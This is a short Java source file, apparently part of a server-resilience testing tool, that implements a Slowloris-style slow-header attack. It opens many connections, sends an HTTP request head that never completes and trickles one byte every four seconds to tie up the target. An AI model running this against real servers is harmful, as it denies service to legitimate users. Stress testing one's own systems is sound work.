package be.ptr.hostile;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * Requests whose head never ends.
 *
 * @param longestClick of somebody else, while it lasts
 */
public record SlowHeads(int connections, Duration length, Duration longestClick) implements Attack {
    private static final Duration PACE = Duration.ofSeconds(4);

    @Override
    public Finding against(Victim victim) throws InterruptedException {
        return new Siege(victim, length, longestClick)
                .hold(
                        connections + " heads, a byte each " + PACE.toSeconds() + " s for " + length.toSeconds() + " s",
                        connections,
                        number -> open(victim),
                        PACE,
                        connection -> connection.getOutputStream().write('x'));
    }

    private static Socket open(Victim victim) throws IOException {
        Socket connection = victim.connect(1 << 12);
        connection.getOutputStream().write("GET /sign-in HTTP/1.1\r\nX: ".getBytes(StandardCharsets.US_ASCII));
        return connection;
    }
}
